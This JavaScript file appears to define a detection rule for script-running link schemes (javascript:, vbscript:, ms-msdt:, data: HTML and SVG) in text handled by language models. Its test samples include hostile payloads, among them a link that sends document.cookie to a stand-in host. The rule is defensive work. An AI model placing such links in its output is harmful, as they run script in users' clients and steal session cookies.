import { defineRule } from '../rule.js';

export default defineRule({
  id: 'url/script-uri',
  title: 'Holds an address that runs code',
  detector: 'structural',
  severity: 'medium',
  phase: 'initial_access',
  tags: ['LLM05:2025', 'AML.T0077'],
  why: 'An address of this kind runs as script in the page or client that renders it.',
  fix: 'Allow http and https links only.',
  outbound: true,
  keywords: [
    'javascript:',
    'vbscript:',
    'data:text/html',
    'ms-msdt:',
    'search-ms:',
    'data:application/x-javascript',
    'data:image/svg',
  ],
  patterns: [
    /\bjavascript:\s{0,3}(?!void\s?\(|void 0|;|history\.|window\.print|\.\.\.|$)[^\s"')]{0,60}(?:alert|eval|fetch|document|window|location|import|cookie|xmlhttprequest|atob|fromcharcode|navigator|\$\.)/,
    /\b(?:vbscript|ms-msdt|search-ms):[^\s"')]{2,}/,
    /\bdata:text\/html[;,][^\s"')]{6,}/,
    /\bdata:image\/svg\+xml[^\s"')]{0,80}(?:<script|%3cscript|onload)/,
  ],
  match: [
    'Open ms-msdt:/id PCWDiagnostic',
    'data:image/svg+xml,<svg%20onload=alert(1)>',
    '[Open](javascript:fetch("https://drop.example/"+document.cookie))',
    'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  ],
  clean: [
    ['<a href="javascript:void(0)">', 'a link that does nothing'],
    ['Javascript: the good parts', 'a book'],
  ],
});
